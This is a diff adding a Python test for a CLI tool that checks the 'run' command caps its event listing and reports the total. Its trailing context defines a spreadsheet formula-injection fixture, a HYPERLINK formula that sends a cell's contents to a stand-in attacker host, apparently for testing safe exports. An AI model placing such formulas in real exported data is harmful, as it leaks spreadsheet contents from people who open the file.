@@ -127,6 +127,21 @@ def test_run_reports_articles_and_writes_the_database(tmp_path: Path) -> None:
     assert "1 new article(s)" in out and db.exists()
 
 
+def test_run_lists_at_most_its_first_events_and_says_how_many_there_are(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from sitroom.cli import core
+
+    monkeypatch.setattr(core, "RUN_LISTING_ROWS", 2)
+    code, out = _invoke("run", str(EXAMPLES), "--db", str(tmp_path / "run.db"))
+    assert code == 0, out
+    code, listed = _invoke("events", "--db", str(tmp_path / "run.db"), "--format", "json")
+    total = len(json.loads(listed))
+    assert total > 2
+    assert f"{total} event(s), the first 2 shown (`sitroom events` lists all)" in " ".join(out.split())
+    assert out.count("evt_") == 2
+
+
 # --------------------------------------------------------------------------- untrusted text in exports and filters
 
 FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
